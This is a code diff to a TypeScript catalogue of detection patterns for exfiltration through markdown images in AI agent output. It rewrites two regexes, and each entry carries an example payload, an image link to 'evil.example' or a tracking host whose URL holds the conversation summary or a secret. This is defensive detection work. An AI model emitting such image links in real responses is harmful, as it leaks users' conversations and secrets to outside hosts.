@@ -21,7 +21,7 @@ export const AGENT_PATTERNS: readonly CatalogueEntry[] = [
     weight: 0.85,
     kinds: TEXT_KINDS,
     keywords: ['!['],
-    pattern: String.raw`!\[[^\]\n]{0,100}\]\(\s?(?:https?:)?//⟪300:)\s⟫(?:\{|\$\{|%7b|<|\[)⟪60:)\s⟫\)`,
+    pattern: String.raw`!\[⟪100:\]\n⟫\]\(\s?(?:https?:)?//⟪300:)\s⟫(?:\{|\$\{|%7b|<|\[)⟪60:)\s⟫\)`,
     examples: ['![img](https://evil.example/log?q={conversation_summary})'],
   },
   {
@@ -31,7 +31,7 @@ export const AGENT_PATTERNS: readonly CatalogueEntry[] = [
     weight: 0.45,
     kinds: TEXT_KINDS,
     keywords: ['!['],
-    pattern: String.raw`!\[[^\]\n]{0,100}\]\(\s?(?:https?:)?//⟪300:)\s?⟫\?⟪300:)\s⟫=`,
+    pattern: String.raw`!\[⟪100:\]\n⟫\]\(\s?(?:https?:)?//⟪300:)\s?⟫\?⟪300:)\s⟫=`,
     examples: ['![x](https://track.example/p.png?data=secret)'],
   },
   {
